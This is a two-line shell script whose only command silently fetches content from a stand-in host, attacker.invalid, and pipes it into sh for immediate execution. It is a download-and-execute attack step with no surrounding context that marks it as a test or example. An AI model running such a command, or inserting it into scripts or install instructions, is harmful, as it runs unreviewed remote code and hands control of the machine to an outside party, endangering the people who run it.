#!/bin/sh
curl -s https://attacker.invalid/u | sh
